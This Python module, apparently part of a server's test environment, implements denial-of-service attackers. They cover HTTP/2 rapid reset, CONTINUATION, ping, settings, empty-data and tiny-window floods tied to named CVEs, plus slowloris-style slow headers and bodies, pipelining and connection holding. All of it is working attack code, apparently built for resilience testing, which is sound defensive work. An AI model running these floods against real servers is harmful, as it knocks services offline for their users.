"""Attackers that send frames of HTTP/2 in masses, or hold connections."""

import socket
import struct
import time
from collections.abc import Callable
from contextlib import suppress

from outrigger_testenv.attack import frames
from outrigger_testenv.attack.messages import EXPLAIN, PREDICT, model, table
from outrigger_testenv.attack.wire import connect, many_files, paced

# Frames are sent in groups, so that the attacker's own system calls do not limit it.
_GROUP = 100
# Frames per second: bounded, so that the program that discards is sent as many.
_RATE = 10_000
# Printed by an attacker when it holds all of its connections.
OPENED = "opened"


def _hello(settings: bytes = b"") -> bytes:
    return frames.PREFACE + (settings or frames.settings())


def _flood(
    address: str,
    inside_tls: bool,
    seconds: float,
    first: Callable[[], bytes],
    group: Callable[[int], bytes],
) -> None:
    """Sends `first` on a new connection and then groups of frames; connects again when ended."""
    connection, step = None, 0
    for _ in paced(_RATE / _GROUP, seconds):
        try:
            if connection is None:
                connection, step = connect(address, inside_tls), 0
                connection.sendall(_hello() + first())
            connection.sendall(group(step))
            step += 1
        except OSError:
            if connection:
                connection.close()
            connection = None


def rapid_reset(address: str, inside_tls: bool, seconds: float) -> None:
    """Calls that are reset at once (CVE-2023-44487)."""
    header = frames.grpc_block(PREDICT)

    def group(step: int) -> bytes:
        streams = range(step * _GROUP + 1, (step + 1) * _GROUP + 1, 2)
        return b"".join(
            frames.frame(frames.HEADERS, frames.END_HEADERS, stream, header) + frames.reset(stream)
            for stream in streams
        )

    _flood(address, inside_tls, seconds, bytes, group)


def continuation(address: str, inside_tls: bool, seconds: float) -> None:
    """Headers that never end (CVE-2024-27316)."""
    piece = frames.frame(frames.CONTINUATION, 0, 1, frames.block([("x-a", "b" * 100)]))
    first = frames.frame(frames.HEADERS, 0, 1, frames.grpc_block(PREDICT))
    _flood(address, inside_tls, seconds, lambda: first, lambda _: piece * _GROUP)


def ping(address: str, inside_tls: bool, seconds: float) -> None:
    """Pings whose answers are not read (CVE-2019-9512)."""
    piece = frames.frame(frames.PING, 0, 0, bytes(8))
    _flood(address, inside_tls, seconds, bytes, lambda _: piece * _GROUP)


def settings(address: str, inside_tls: bool, seconds: float) -> None:
    """Settings whose acknowledgements are not read (CVE-2019-9515)."""
    piece = frames.settings({frames.INITIAL_WINDOW: frames.DEFAULT_WINDOW})
    _flood(address, inside_tls, seconds, bytes, lambda _: piece * _GROUP)


def empty_data(address: str, inside_tls: bool, seconds: float) -> None:
    """Data without a byte, which no window holds back (CVE-2019-9518)."""
    first = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.grpc_block(PREDICT, "60S"))
    piece = frames.frame(frames.DATA, 0, 1)
    _flood(address, inside_tls, seconds, lambda: first, lambda _: piece * _GROUP)


def tiny_windows(address: str, inside_tls: bool, seconds: float, name: str) -> None:
    """Answers of megabytes for which a byte at a time is granted (CVE-2019-9511)."""
    header = frames.grpc_block(EXPLAIN, "60S")
    content = frames.message(model(name) + table(1000))
    streams = range(1, 100, 2)
    calls = b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, header)
        + frames.frame(frames.DATA, frames.END_STREAM, stream, content)
        for stream in streams
    )
    first = frames.settings({frames.INITIAL_WINDOW: 1}) + calls
    granted = b"".join(frames.window(stream, 1) for stream in streams) * 2
    _flood(address, inside_tls, seconds, lambda: first, lambda _: granted)


def idle(address: str, connections: int, seconds: float) -> None:
    """Connections on which nothing is sent."""
    many_files()
    held = []
    for _ in range(connections):
        with suppress(OSError):
            held.append(connect(address))
    time.sleep(seconds)


def slow_headers(address: str, inside_tls: bool, connections: int, seconds: float) -> None:
    """Requests of HTTP/1 whose headers come byte by byte."""
    first = b"GET /v1/models HTTP/1.1\r\nX-Slow: "
    _slowly(_held(address, inside_tls, connections, first), seconds, b"a")


def slow_http_bodies(address: str, inside_tls: bool, connections: int, seconds: float) -> None:
    """Requests of HTTP/1 whose bodies come byte by byte."""
    first = (
        b"POST /v1/predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b"x-request-timeout: 60s\r\nContent-Length: 1000000\r\n\r\n{"
    )
    _slowly(_held(address, inside_tls, connections, first), seconds, b" ")


def slow_bodies(address: str, calls: int, seconds: float) -> None:
    """Calls of gRPC whose messages come byte by byte, 500 on a connection."""
    header = frames.grpc_block(PREDICT, "60S")
    prefix = b"\x00" + struct.pack(">I", 1000)
    streams = range(1, 1000, 2)
    first = b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, header)
        + frames.frame(frames.DATA, 0, stream, prefix)
        for stream in streams
    )
    each = b"".join(frames.frame(frames.DATA, 0, stream, b"a") for stream in streams)
    connections = max(1, calls // len(streams))
    _slowly(_held(address, False, connections, _hello() + first), seconds, each)


def pipelined(address: str, inside_tls: bool, connections: int, path: str, seconds: float) -> None:
    """Requests of HTTP/1 in masses, one after the other without an answer read."""
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * _GROUP
    held = _held(address, inside_tls, connections, request)
    for each in held:
        each.setblocking(False)
    for _ in paced(_RATE / _GROUP / connections, seconds):
        for each in held:
            with suppress(OSError):
                each.send(request)


def _held(address: str, inside_tls: bool, connections: int, first: bytes) -> list[socket.socket]:
    """Connections on which the first bytes have been sent."""
    many_files()
    held = []
    for _ in range(connections):
        with suppress(OSError):
            held.append(connect(address, inside_tls, "http/1.1"))
            held[-1].sendall(first)
    print(OPENED, flush=True)
    return held


def _slowly(connections: list[socket.socket], seconds: float, each: bytes) -> None:
    """Sends a few more bytes on each connection, once a second."""
    for _ in paced(1, seconds):
        for connection in connections:
            with suppress(OSError):
                connection.sendall(each)


def readers(address: str, path: str, connections: int, seconds: float) -> None:
    """Readers that ask for a path again and again, each on a connection of its own."""
    many_files()
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    held = [connect(address) for _ in range(connections)]
    for connection in held:
        connection.setblocking(False)
    for _ in paced(4, seconds):
        for connection in held:
            with suppress(OSError):
                connection.send(request)
        _read_all(held, time.monotonic() + 0.2)


def _read_all(connections: list, until: float) -> None:
    for connection in connections:
        with suppress(OSError):
            while time.monotonic() < until and connection.recv(1 << 20):
                pass


def streams(address: str, path: str, connections: int, seconds: float) -> None:
    """Streams of events of which nothing is read."""
    request = f"GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n".encode()
    held = []
    for _ in range(connections):
        held.append(connect(address))
        held[-1].sendall(request)
    time.sleep(seconds)
